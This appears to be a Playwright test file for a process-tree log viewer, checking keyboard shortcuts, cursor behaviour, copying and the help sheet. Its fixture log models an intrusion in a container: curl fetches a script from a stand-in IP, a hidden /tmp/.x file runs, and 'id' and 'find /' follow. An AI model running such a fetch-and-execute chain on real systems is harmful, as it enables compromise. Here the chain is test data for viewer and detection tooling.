import { drawLog } from '../src/testing/draw-log'
import { expect, test, withLog } from './helpers/test'
import { boxOf, type ShownRange } from './helpers/viewer'

const log = drawLog(`
  pod default/xwing container 1fb931d2 name spaceship node n1
    10 /bin/bash 0s..100s cpid 1
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 10s..20s exit 22
      12 /bin/sh /tmp/.x 40s..60s
        13 /usr/bin/id 45s..50s
        14 /usr/bin/find / 42.000000007s..58s exit 1
  host n1
    1 /usr/lib/systemd/systemd -3600s.. procFS
    2 /usr/sbin/cron 41s..
`)

const at = (second: number): number => Date.parse('2024-05-01T10:00:00Z') + second * 1000
const lengthOf = ({ from, to }: ShownRange): number => to - from

withLog(log.text)

test('arrows walk the rows also where nothing has the focus, and leave other parts of the page alone', async ({
  viewer,
  page,
}) => {
  await viewer.selectRow('/usr/bin/curl')
  await viewer.tree.blur()
  await page.keyboard.press('ArrowDown')
  await expect(viewer.row('/bin/sh')).toHaveAttribute('aria-selected', 'true')
  await page.keyboard.press('ArrowLeft')
  await expect(viewer.row('/bin/sh')).toHaveAttribute('aria-expanded', 'false')
  await viewer.brush.focus()
  await page.keyboard.press('ArrowUp')
  await viewer.waitForIdle()
  await expect(viewer.row('/bin/sh')).toHaveAttribute('aria-selected', 'true')
})

test('- collapses everything and * opens it again', async ({ viewer, page }) => {
  await viewer.focusTree()
  await page.keyboard.press('-')
  await expect(viewer.rows).toHaveText([/^default\/xwing/, /^n1/])
  await page.keyboard.press('*')
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
})

test('j and k select processes in order of their start', async ({ viewer, page }) => {
  await viewer.selectRow('/bin/sh')
  for (const name of ['/usr/sbin/cron', '/usr/bin/find', '/usr/bin/id']) {
    await page.keyboard.press('j')
    await expect(viewer.row(name)).toHaveAttribute('aria-selected', 'true')
  }
  await page.keyboard.press('k')
  await expect(viewer.row('/usr/bin/find')).toHaveAttribute('aria-selected', 'true')
})

test('g waits for another key, says which ones there are, and not for long', async ({ viewer, page }) => {
  await viewer.selectRow('/usr/bin/find')
  const hint = page.getByRole('status', { name: 'Keys that may follow' })
  await page.keyboard.press('g')
  await expect(hint).toContainText('Go to the entry process of the container')
  await page.keyboard.press('c')
  await expect(hint).toHaveCount(0)
  await expect(viewer.row('/bin/bash')).toHaveAttribute('aria-selected', 'true')
  await viewer.selectRow('/usr/bin/find')
  await page.keyboard.press('g')
  await expect(hint).toBeVisible()
  await expect(hint).toHaveCount(0) // it is over by itself
  await page.keyboard.press('p')
  await expect(viewer.row('/bin/sh')).toHaveAttribute('aria-selected', 'true')
})

test('keys are letters where one types', async ({ viewer, page }) => {
  await page.keyboard.press('/')
  await expect(viewer.filter).toBeFocused()
  const before = await viewer.visibleRange()
  await page.keyboard.type('wgp?0')
  await expect(viewer.filter).toHaveValue('wgp?0')
  expect(await viewer.visibleRange()).toEqual(before)
  await expect(page.getByRole('dialog')).toHaveCount(0)
})

test('keys of a single letter can be switched off', async ({ viewer, page }) => {
  await page.keyboard.press('ControlOrMeta+k')
  await page.getByRole('dialog').getByRole('combobox').fill('letter')
  await page.keyboard.press('Enter')
  await expect(page.getByText('Keys of a single letter are off')).toBeVisible()
  await viewer.selectRow('/usr/bin/curl')
  const before = await viewer.visibleRange()
  for (const key of ['w', 'g', 'p', '?']) await page.keyboard.press(key)
  await page.keyboard.press('ArrowDown')
  await expect(viewer.row('/bin/sh')).toHaveAttribute('aria-selected', 'true')
  expect(await viewer.visibleRange()).toEqual(before)
  await expect(page.getByRole('dialog')).toHaveCount(0)
})

test('g s and g e go to the ends of the log', async ({ viewer, page }) => {
  await viewer.selectRow('/usr/bin/id')
  const fitted = await viewer.changeRange(() => page.keyboard.press('f'))
  await page.keyboard.press('g')
  const first = await viewer.changeRange(() => page.keyboard.press('s'))
  expect(first.after.from).toBe(fitted.before.from)
  expect(Math.abs(lengthOf(first.after) - lengthOf(fitted.after))).toBeLessThanOrEqual(1)
  await page.keyboard.press('g')
  const last = await viewer.changeRange(() => page.keyboard.press('e'))
  expect(last.after.to).toBe(fitted.before.to)
})

test('panes, theme and the way times are shown are changed with t', async ({ viewer, page }) => {
  await viewer.focusTree()
  for (const [key, pane] of [
    ['p', viewer.pods],
    ['e', viewer.events],
    ['d', viewer.details],
  ] as const) {
    await page.keyboard.press('t')
    await page.keyboard.press(key)
    await expect(pane).toHaveCount(0)
    await page.keyboard.press('t')
    await page.keyboard.press(key)
    await expect(pane).toBeVisible()
  }
  await page.keyboard.press('t')
  await page.keyboard.press('t')
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'light')
  await page.keyboard.press('t')
  await page.keyboard.press('z')
  await expect(viewer.status).toContainText('local')
})

test('c copies: the link, and what selects the process', async ({ viewer, page }) => {
  await viewer.clipboard() // allows the page to copy
  await viewer.selectRow('/usr/bin/curl')
  for (const [key, said, copied] of [
    ['l', 'Copied the link', '&sel='],
    ['j', 'Copied the JSON', '"process_exec"'],
    ['q', 'Copied a jq filter', 'jq -c'],
    ['t', 'Copied a tetra filter', 'cel_expression'],
    ['m', 'Copied the lineage', '- `/bin/bash`'],
  ] as const) {
    await page.keyboard.press('c')
    await page.keyboard.press(key)
    await expect(page.getByText(said)).toBeVisible()
    expect(await viewer.clipboard()).toContain(copied)
  }
})

test('o opens files', async ({ viewer, page }) => {
  const chosen = page.waitForEvent('filechooser')
  await expect(viewer.tree).toBeVisible() // by then the browser has been told that its dialog is not to open
  await page.keyboard.press('o')
  expect((await chosen).isMultiple()).toBe(true)
})

test('g q opens the data quality, g o and g t bring the focus to the overview and the tree', async ({
  viewer,
  page,
}) => {
  await page.keyboard.press('g')
  await page.keyboard.press('q')
  await expect(page.getByRole('dialog', { name: 'Data quality' })).toBeVisible()
  await page.keyboard.press('Escape')
  await page.keyboard.press('g')
  await page.keyboard.press('o')
  await expect(viewer.brush).toBeFocused()
  await page.keyboard.press('g')
  await page.keyboard.press('t')
  await expect(viewer.tree).toBeFocused()
})

test.describe('the cursor', () => {
  test('says its time on the axis, as the pointer moves', async ({ viewer, page }) => {
    const time = page.locator('.cursor-time')
    await expect(time).toBeHidden()
    const range = await viewer.visibleRange()
    const { x, y } = await viewer.pointOn(viewer.row('/bin/bash'), (at(30) - range.from) / lengthOf(range))
    await page.mouse.move(x, y)
    await expect(time).toHaveText(/^10:00:(29\.9|30\.0)\d\d$/)
    const label = await boxOf(time)
    expect(Math.abs(label.x + label.width / 2 - x)).toBeLessThan(2)
    await page.mouse.move(x, y - 300)
    await expect(time).toBeHidden()
  })

  test('is moved with keys, which zoom around it, and is gone with Escape', async ({ viewer, page }) => {
    const time = page.locator('.cursor-time')
    await viewer.selectRow('/usr/bin/find')
    await page.keyboard.press('Shift+Home')
    await expect(time).toHaveText('10:00:42.000000007')
    await expect(page.getByRole('status').filter({ hasText: 'cursor at 10:00:42.000000007' })).toHaveCount(1)
    const before = await boxOf(time)
    for (let i = 0; i < 3; i++) await viewer.changeRange(() => page.keyboard.press('w'))
    const after = await boxOf(time)
    expect(Math.abs(after.x - before.x)).toBeLessThan(2)
    await page.keyboard.press('Shift+ArrowRight')
    await expect(time).toHaveText(/^10:00:42\.[1-9]/)
    await page.keyboard.press('Shift+End')
    await expect(time).toHaveText('10:00:58.000000000')
    await page.keyboard.press('Escape')
    await expect(time).toBeHidden()
    await expect(viewer.selectedRow).toHaveCount(0)
  })

  test('takes the range with it past the edge', async ({ viewer, page }) => {
    await viewer.selectRow('/usr/bin/find')
    await viewer.changeRange(() => page.keyboard.press('f'))
    await page.keyboard.press('Shift+End')
    const { before, after } = await viewer.changeRange(async () => {
      for (let i = 0; i < 12; i++) await page.keyboard.press('Shift+ArrowRight')
    })
    expect(after.from).toBeGreaterThan(before.from)
    await expect(page.locator('.cursor-time')).toBeVisible()
  })
})

test('the sheet of keys shows keys and gestures, and buttons name their keys', async ({ viewer, page }) => {
  await viewer.focusTree()
  await page.keyboard.press('?')
  const sheet = page.getByRole('dialog', { name: 'Keys' })
  for (const section of ['Go to', 'Rows', 'Time', 'Find', 'Copy', 'View', 'Open', 'Help', 'Mouse'])
    await expect(sheet.getByRole('heading', { name: section, exact: true })).toBeInViewport({ ratio: 1 })
  await expect(sheet.locator('dl > div').filter({ hasText: 'Go to a pod or host' })).toHaveText(/gp$/)
  await expect(sheet).toContainText('Zoom at the pointer')
  await sheet.getByRole('button', { name: 'Close' }).click()
  await expect(sheet).toHaveCount(0)
  await expect(viewer.tree).toBeFocused()
  await expect(viewer.button('Copy link')).toHaveAttribute('title', 'Copy the link to this view (c l)')
  await expect(viewer.button('Pods pane')).toHaveAttribute('title', 'Show or hide the pods pane (t p)')
})

test('a key that needs a selection says so where there is none', async ({ page }) => {
  const said = page.getByRole('status').filter({ hasText: 'Select a process first' })
  for (const keys of ['cm', 'f', 'p']) {
    for (const key of keys) await page.keyboard.press(key)
    await expect(said).toBeVisible()
    await expect(said).toHaveCount(0)
  }
})
